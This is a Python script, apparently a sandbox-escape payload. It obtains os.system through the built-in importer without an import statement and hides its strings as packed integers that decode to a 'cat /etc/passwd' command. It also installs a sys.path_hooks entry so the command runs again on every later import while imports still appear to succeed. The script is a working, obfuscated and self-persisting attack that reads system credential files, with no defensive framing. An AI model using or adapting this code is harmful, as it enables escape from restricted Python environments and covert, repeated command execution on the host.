# technique: the built-in importer is taken straight out of sys.meta_path and asked to create the native process module by spec (no import statement or import function involved); the payload is additionally planted as a sys.path_hooks entry so that it re-runs inside any later import the embedding program performs; strings are packed 64-bit integers unpacked with struct
import struct
import sys


def unpack(*words):
    return struct.pack(">%dQ" % len(words), *words).lstrip(b"\0").rstrip(b" ").decode()


NATIVE = unpack(0x706F736978)
RUN = unpack(0x73797374656D)
COMMAND = unpack(7161132564078752867, 3419191309610481440, 3415536533004890430, 2752297644626812960)


def grab_native():
    importer = next(f for f in sys.meta_path if "Builtin" in repr(f))
    spec = importer.find_spec(NATIVE)
    return importer.create_module(spec)


def fire():
    getattr(grab_native(), RUN)(COMMAND)


def path_hook(entry):
    fire()
    raise ImportError(entry)  # decline, so imports still appear to work


fire()
sys.path_hooks.insert(0, path_hook)
sys.path_importer_cache.clear()
try:
    import not_a_real_module_4242  # noqa: F401  (forces a path scan through our hook)
except ImportError:
    pass
